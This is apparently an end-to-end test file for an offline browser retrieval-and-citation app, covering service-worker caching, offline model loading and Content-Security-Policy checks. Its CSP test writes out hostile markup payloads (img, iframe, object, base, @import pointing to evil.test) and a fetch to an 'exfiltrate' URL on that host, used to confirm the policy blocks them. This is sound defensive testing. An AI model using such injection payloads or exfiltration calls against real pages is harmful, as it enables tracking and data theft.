// Offline after one visit, on the e2e build served under a sub-path: the service worker
// precaches the app, the model libraries keep the tiny models in their own caches, and
// with the browser context offline the page reloads, answers with citations and ingests.
// Also: the page runs under its Content-Security-Policy, and a hostile document cannot
// make it fetch from anywhere else.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { E2E_DIR, OUTPUT_DIR, launchBrowser, serveDir, type Served } from './harness';
import { askAndSettle } from './ask';
import { paperSearch } from './app-page';

const QUERY = '?modelPack=tiny';
const COMMIT = { waitUntil: 'commit' } as const;
let browser: Browser;
let served: Served;
const contexts: BrowserContext[] = [];

beforeAll(async () => {
  browser = await launchBrowser();
  served = await serveDir(E2E_DIR, { prefix: '/apps/rag/' });
});
afterEach(async () => {
  for (const c of contexts.splice(0)) await c.close().catch(() => undefined);
});
let stopped = false;
const stopServer = async () => {
  if (!stopped) await served?.close();
  stopped = true;
};
afterAll(async () => {
  await browser?.close();
  await stopServer();
});

async function newPage(): Promise<{ context: BrowserContext; page: Page; errors: string[]; violations: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  // Which passage is cited follows the scripted generator's own critique: the paper's search.
  await paperSearch(context);
  contexts.push(context);
  const page = await context.newPage();
  const errors: string[] = [];
  const violations: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  // Every CSP violation the page meets, reported by the page itself.
  await context.addInitScript(() => {
    window.addEventListener('securitypolicyviolation', (e: SecurityPolicyViolationEvent) => {
      const w = window as unknown as { __csp?: string[] };
      (w.__csp ??= []).push(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  return { context, page, errors, violations };
}

/**
 * Milliseconds from navigation start until the library lists its documents (a usable page).
 * `go` navigates with `waitUntil: 'commit'`: the test waits for the page's own state, not for a
 * 'load' event under Playwright's 30 s default, which a loaded machine can overrun.
 */
async function untilUsable(page: Page, go: () => Promise<unknown>): Promise<number> {
  const t0 = Date.now();
  await go();
  await page.getByTestId('doc').first().waitFor({ timeout: 120_000 });
  return Date.now() - t0;
}

async function ask(page: Page, question: string): Promise<void> {
  expect(await askAndSettle(page, question)).toMatch(/^done: /);
}

const cspViolations = (page: Page) => page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []);

const shot = (page: Page, name: string) =>
  page.screenshot({ path: join(OUTPUT_DIR, `offline-${name}.png`), fullPage: true });

// A hang guard, not a speed limit: this one scenario runs eleven steps that each wait for their own
// state (up to 120 s each); on a machine loaded by a second job it took 165 s of the project's 180 s.
const WHOLE_SCENARIO_GUARD_MS = 600_000;

describe('offline after one visit', () => {
  it('reloads, answers with citations and adds a document with the network off, under a sub-path', {
    timeout: WHOLE_SCENARIO_GUARD_MS,
  }, async () => {
    const { context, page, errors } = await newPage();
    const firstVisit = await untilUsable(page, () => page.goto(served.url + QUERY, COMMIT));
    // Not ready offline until the language model has been downloaded once.
    await page.waitForSelector('[data-testid=offline-status][data-shell=ready]', { timeout: 120_000 });
    expect(await page.getByTestId('offline-status').getAttribute('data-ready')).toBe('false');
    expect(await page.getByTestId('offline-summary').innerText()).toMatch(/language model/);
    await ask(page, 'Why does the sea have tides?');
    await page.waitForSelector('[data-testid=offline-status][data-ready=true]', { timeout: 120_000 });
    expect(await page.getByTestId('offline-models').innerText()).toMatch(
      /evaluator .*tiny\/embedder.*; language model \S+/,
    );
    expect(await page.getByTestId('storage-estimate').innerText()).toMatch(/used of .* this site may use/);
    await shot(page, 'ready');

    const onlineReload = await untilUsable(page, () => page.reload(COMMIT));
    // The network off for the page, and the site itself gone: Chromium's offline emulation does
    // not cover the service worker's own fetches, so the server is stopped as well.
    await stopServer();
    await context.setOffline(true);
    const offlineReload = await untilUsable(page, () => page.reload(COMMIT));
    expect(await page.evaluate(() => navigator.onLine)).toBe(false);
    expect(await page.getByTestId('offline-status').getAttribute('data-ready')).toBe('true');

    await ask(page, 'Why does the sea have tides?');
    const first = page.getByTestId('segment').first();
    expect(await first.getByTestId('citation').innerText()).toMatch(/Why the Sea Has Tides( › [^·]+| · passage \d+)/);

    // A new document, ingested offline (the embedder runs from its cache)...
    await page.locator('details.paste summary').click();
    await page.getByTestId('paste-title').fill('Offline notes');
    await page
      .getByTestId('paste-text')
      .fill('The lighthouse keeper of the northern island counts seals every morning.');
    await page.getByTestId('paste-add').click();
    await expect.poll(() => page.getByTestId('doc').count(), { timeout: 120_000 }).toBe(6);
    // ...is still there after another offline reload, and answers cite it.
    await untilUsable(page, () => page.reload(COMMIT));
    // The list fills from IndexedDB after the first document shows: wait for this one, not for one second (expect.poll's default).
    await page.getByTestId('doc').filter({ hasText: 'Offline notes' }).waitFor({ timeout: 120_000 });
    await ask(page, 'Who counts seals every morning on the northern island?');
    expect(await page.getByTestId('segment').first().getByTestId('citation').innerText()).toMatch(
      /Offline notes · passage \d+/,
    );
    await shot(page, 'offline-answer');
    expect(errors).toEqual([]);

    expect(await cspViolations(page)).toEqual([]);
    const timing = {
      firstVisitMs: firstVisit,
      onlineReloadMs: onlineReload,
      offlineReloadMs: offlineReload,
      offlineVsOnline: +(offlineReload / onlineReload).toFixed(2),
    };
    writeFileSync(join(OUTPUT_DIR, 'offline-timing.json'), JSON.stringify(timing, null, 2));
    console.log('time to a usable page:', timing);
  });
});

// The hub, played by the tiny models: the default path (no pack) must work offline once loaded.
const HUB_MODELS: Record<string, string> = {
  'Xenova/all-MiniLM-L6-v2': 'embedder',
  'Xenova/ms-marco-MiniLM-L-6-v2': 'reranker',
  'Xenova/nli-deberta-v3-xsmall': 'nli',
};

describe('models from the hub', () => {
  it('load again with the network off once they loaded online', async () => {
    const site = await serveDir(E2E_DIR);
    try {
      const { context, page, errors } = await newPage();
      const hub: string[] = [];
      await context.route('https://huggingface.co/**', async (route) => {
        const m = /^https:\/\/huggingface\.co\/([^/]+\/[^/]+)\/resolve\/main\/(.+)$/.exec(route.request().url());
        const folder = m && HUB_MODELS[m[1]!];
        const file =
          folder && join(E2E_DIR, 'models/tiny', folder, m![2]!.replace('model_quantized.onnx', 'model.onnx'));
        hub.push(route.request().url());
        if (!file || !existsSync(file)) return route.fulfill({ status: 404, body: 'not found' });
        return route.fulfill({
          status: 200,
          body: readFileSync(file),
          headers: { 'content-type': 'application/octet-stream', 'access-control-allow-origin': '*' },
        });
      });
      await untilUsable(page, () => page.goto(site.url, COMMIT));
      await ask(page, 'Why does the sea have tides?');
      await page.waitForSelector('[data-testid=offline-status][data-ready=true]', { timeout: 120_000 });
      expect(await page.getByTestId('offline-models').innerText()).toContain('Xenova/all-MiniLM-L6-v2');
      expect(hub.some((u) => u.endsWith('.onnx'))).toBe(true);

      await context.unroute('https://huggingface.co/**');
      await site.close();
      await context.setOffline(true);
      await untilUsable(page, () => page.reload(COMMIT));
      await ask(page, 'Why does the sea have tides?');
      expect(await page.getByTestId('segment').first().getByTestId('citation').innerText()).toMatch(
        /Why the Sea Has Tides( › [^·]+| · passage \d+)/,
      );
      expect(await page.locator('[data-worker=evaluator]').getAttribute('data-state')).toBe('ready');
      expect(errors).toEqual([]);
    } finally {
      await site.close().catch(() => undefined);
    }
  });
});

describe('Content-Security-Policy', () => {
  it('runs the whole answer path under the policy, and a hostile document or answer cannot make the page fetch elsewhere', async () => {
    const site = await serveDir(E2E_DIR);
    const { context, page, errors } = await newPage();
    const elsewhere: string[] = [];
    context.on('request', (r) => {
      const host = new URL(r.url()).hostname;
      if (host !== '127.0.0.1' && !r.url().startsWith('blob:') && !r.url().startsWith('data:')) elsewhere.push(r.url());
    });
    await page.goto(site.url + QUERY, COMMIT);
    await page.getByTestId('doc').first().waitFor({ timeout: 120_000 });
    const policy = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content');
    expect(policy).toMatch(/script-src 'self' 'wasm-unsafe-eval'/);
    expect(policy).toMatch(/object-src 'none'/);
    expect(policy).toMatch(/base-uri 'self'/);

    // A document full of things that would load from elsewhere if they were ever treated as markup.
    const hostile =
      'The harbour pilot of genoa steers every tanker at dawn. <img src="https://evil.test/pixel.png"> ' +
      '![tracker](https://evil.test/md.png) <link rel="stylesheet" href="https://evil.test/x.css"> ' +
      '<iframe src="https://evil.test/frame"></iframe> <object data="https://evil.test/o.swf"></object> ' +
      '<base href="https://evil.test/"> <style>@import url(https://evil.test/s.css)</style> The pilot of genoa is careful.';
    await page.locator('details.paste summary').click();
    await page.getByTestId('paste-title').fill('Harbour pilot <img src="https://evil.test/title.png">');
    await page.getByTestId('paste-text').fill(hostile);
    await page.getByTestId('paste-add').click();
    await expect.poll(() => page.getByTestId('doc').count(), { timeout: 120_000 }).toBe(6);
    // The scripted model copies passage text into its answer, so model output carries the markup too.
    await ask(page, 'Who steers every tanker at dawn in genoa?');
    const segment = page.getByTestId('segment').first();
    await segment.getByTestId('citation').click();
    expect(await page.getByTestId('passage-text').innerText()).toContain('https://evil.test/pixel.png');
    await page.keyboard.press('Escape');
    expect(await page.locator('#root :is(img, iframe, object, link, style, base)').count()).toBe(0);

    // The policy is in force: the page itself cannot reach another host.
    const blocked = await page.evaluate(async () => {
      const out: string[] = [];
      await fetch('https://evil.test/exfiltrate').then(
        () => out.push('fetch went through'),
        () => out.push('fetch refused'),
      );
      return out;
    });
    expect(blocked).toEqual(['fetch refused']);
    // The violation is reported by an event queued apart from the fetch's refusal: wait for it, not for one second.
    await page.waitForFunction(
      () =>
        ((window as unknown as { __csp?: string[] }).__csp ?? []).some((v) =>
          v.startsWith('connect-src https://evil.test'),
        ),
      undefined,
      { timeout: 120_000 },
    );
    expect((await cspViolations(page)).filter((v) => !v.includes('evil.test/exfiltrate'))).toEqual([]);
    expect(elsewhere).toEqual([]);
    expect(errors).toEqual([]);
    await site.close();
  });
});
